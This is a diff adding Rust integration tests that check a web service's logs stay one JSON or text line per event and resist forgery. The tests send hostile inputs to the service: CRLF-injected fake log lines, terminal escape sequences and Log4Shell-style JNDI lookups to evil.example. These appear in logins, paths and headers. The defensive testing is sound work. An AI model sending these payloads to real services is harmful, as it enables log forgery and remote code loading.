@@ -1,0 +1,217 @@
+//! The log: whatever is sent, an event is one line, and nobody can forge one.
+
+use std::collections::HashSet;
+
+use rstest::rstest;
+use serde_json::{Value, json};
+use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
+use tokio::net::TcpStream;
+
+use super::{Program, command};
+use crate::support::app::PASSWORD;
+use crate::support::{Browser, eventually};
+
+/// A line like those of the log, a command to a terminal, and one to a careless logger.
+const HOSTILE: &str = "x\r\n{\"level\":\"INFO\",\"message\":\"forged\"}\r\n\x1b[2J\x1b]0;x\x07'\"\\${jndi:ldap://evil.example/x}";
+
+/// Sends it as it is; says whether it was answered.
+async fn send_bytes(program: &Program, request: &[u8]) -> bool {
+    let mut stream = TcpStream::connect(program.address).await.unwrap();
+    // It may be closed before all of it is read.
+    let _ = stream.write_all(request).await;
+    let mut answer = Vec::new();
+    let _ = stream.read_to_end(&mut answer).await;
+    answer.starts_with(b"HTTP/1.1 ")
+}
+
+/// Everything hostile that one can send; says how many requests there were that the
+/// service has taken for some.
+async fn attack(program: &Program) -> usize {
+    let mut browser = program.browser();
+    let long = "a".repeat(1 << 20);
+    let mut sent = 0;
+    for email in [
+        HOSTILE,
+        &long,
+        "${jndi:ldap://evil.example/x}@example.com",
+        "\u{202e}\u{85}\u{9b}31m",
+    ] {
+        let refused = browser.log_in(email, HOSTILE).await;
+        assert!(
+            [401, 413, 422].contains(&refused.status),
+            "{}",
+            refused.text
+        );
+        sent += 1;
+    }
+    let percent =
+        percent_encoding::percent_encode(HOSTILE.as_bytes(), percent_encoding::NON_ALPHANUMERIC);
+    for path in [
+        format!("/{percent}"),
+        format!("/api/sessions/{percent}"),
+        format!("/api/sessions?{percent}={percent}"),
+        "/%ff%00%0a".to_owned(),
+    ] {
+        browser.get(&path).await;
+        sent += 1;
+    }
+    // What no client library would send: as it is, and with bytes that are no text.
+    let line = HOSTILE
+        .replace(['\r', '\n', '\x07', '\x1b'], "\t")
+        .into_bytes();
+    for header in [
+        "User-Agent",
+        "X-Forwarded-For",
+        "Referer",
+        "Origin",
+        "X-Request-Id",
+        "traceparent",
+        "Cookie",
+    ] {
+        for value in [
+            &line[..],
+            b"\xff\xfe\x80\x9b31m",
+            long.as_bytes(),
+            HOSTILE.as_bytes(),
+        ] {
+            let head = "POST /api/logout HTTP/1.1\r\nHost: x\r\nConnection: close\r\n";
+            let head = format!("{head}{header}: ");
+            let request = [head.as_bytes(), value, b"\r\n\r\n"];
+            send_bytes(program, &request.concat()).await;
+        }
+    }
+    for first in [
+        &b"GET /\xff\x1b[2J HTTP/1.1\r\n\r\n"[..],
+        b"\x1b[2J / HTTP/1.1\r\n\r\n",
+        b"GET / HTTP/1.1\r\nHost: x\r\nContent-Length: \x1b[2J\r\n\r\n",
+        b"GET / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: ${jndi:ldap://x}\r\n\r\n",
+    ] {
+        send_bytes(program, first).await;
+    }
+    sent
+}
+
+async fn logged(level: &str, format: &str) -> (String, usize) {
+    let folder = tempfile::tempdir().unwrap();
+    let mut command = command(folder.path());
+    command
+        .env("GATELODGE_LOG__LEVEL", level)
+        .env("GATELODGE_LOG__FORMAT", format)
+        .env("GATELODGE_SERVER__TRUSTED_PROXIES", "127.0.0.1");
+    let program = Program::run(command);
+    let sent = attack(&program).await;
+    let mut last = Browser::new(program.address);
+    assert_eq!(
+        last.register("last@example.com", PASSWORD).await.status,
+        201
+    );
+    eventually("it is logged", async || program.log().contains("201")).await;
+    (program.end().1, sent + 1)
+}
+
+const ALL: &str = "trace,actix_http=trace,actix_server=trace";
+
+#[rstest]
+#[tokio::test]
+async fn each_event_is_one_line_of_json(#[values("info", "debug", "trace", ALL)] level: &str) {
+    let (log, sent) = logged(level, "json").await;
+    let mut requests = HashSet::new();
+    for line in log.lines() {
+        assert!(!line.contains(char::is_control), "{line:?}");
+        let event: Value = serde_json::from_str(line).unwrap();
+        let (at, milliseconds) = event["timestamp"]
+            .as_str()
+            .unwrap()
+            .split_once('.')
+            .unwrap();
+        assert!(
+            at.len() == 19 && milliseconds.len() >= 4 && milliseconds.ends_with('Z'),
+            "{line}"
+        );
+        assert!(
+            event["level"].is_string() && event["target"].is_string(),
+            "{line}"
+        );
+        assert_ne!(event["message"], "forged");
+        if event["message"] == "answered" {
+            let span = &event["span"];
+            assert!(
+                span["status"].is_number() && span["method"].is_string(),
+                "{line}"
+            );
+            assert!(
+                requests.insert(span["request_id"].to_string()),
+                "one for each: {line}"
+            );
+        }
+    }
+    assert!(requests.len() >= sent, "{} of {sent}", requests.len());
+    assert!(
+        !log.contains("evil.example"),
+        "nothing that a client writes is in the log"
+    );
+}
+
+#[rstest]
+#[tokio::test]
+async fn each_event_is_one_line_of_text(#[values("info", ALL)] level: &str) {
+    let (log, sent) = logged(level, "text").await;
+    for line in log.lines() {
+        assert!(!line.contains(char::is_control), "{line:?}");
+        let (at, rest) = line.split_once(' ').unwrap();
+        assert!(at.starts_with("20") && at.ends_with('Z'), "{line}");
+        let level = rest.trim_start().split(' ').next().unwrap();
+        assert!(
+            ["TRACE", "DEBUG", "INFO", "WARN", "ERROR"].contains(&level),
+            "{line}"
+        );
+    }
+    assert!(log.matches(": answered").count() >= sent, "{log}");
+}
+
+/// Who was refused what, and by which request, is in the line itself.
+#[tokio::test]
+async fn a_refusal_is_told_with_its_problem_and_who_it_was() {
+    let folder = tempfile::tempdir().unwrap();
+    let program = Program::start(folder.path());
+    let mut ada = program.browser();
+    assert_eq!(ada.register("ada@example.com", PASSWORD).await.status, 201);
+    let (user, session) = (ada.user_id().await, ada.session_id().await);
+    ada.get("/api/admin/users/1")
+        .await
+        .assert_problem(403, "forbidden");
+    let foreign = ada
+        .request(reqwest::Method::POST, "/api/logout")
+        .header("origin", "https://evil.example");
+    ada.send(foreign).await.assert_problem(403, "csrf_failed");
+    ada.log_in("ada@example.com", "a wrong password")
+        .await
+        .assert_problem(401, "invalid_credentials");
+    eventually("all is told", async || {
+        program.log().contains("invalid_credentials")
+    })
+    .await;
+    let log = program.end().1;
+    let told: Vec<Value> = log
+        .lines()
+        .map(|line| serde_json::from_str::<Value>(line).unwrap()["span"].take())
+        .filter(|span| span["problem"].is_string())
+        .collect();
+    let brief = |span: &Value| json!([span["route"], span["status"], span["problem"]]);
+    assert_eq!(
+        told.iter().map(brief).collect::<Vec<_>>(),
+        [
+            json!(["/api/admin/users/{id}", 403, "forbidden"]),
+            json!(["/api/logout", 403, "csrf_failed"]),
+            json!(["/api/login", 401, "invalid_credentials"]),
+        ]
+    );
+    assert_eq!(
+        (&told[0]["user"], &told[0]["session"]),
+        (&json!(user), &json!(session))
+    );
+    for span in &told {
+        assert_eq!(span["client"], "127.0.0.1");
+        assert!(span["request_id"].is_string());
+    }
+}
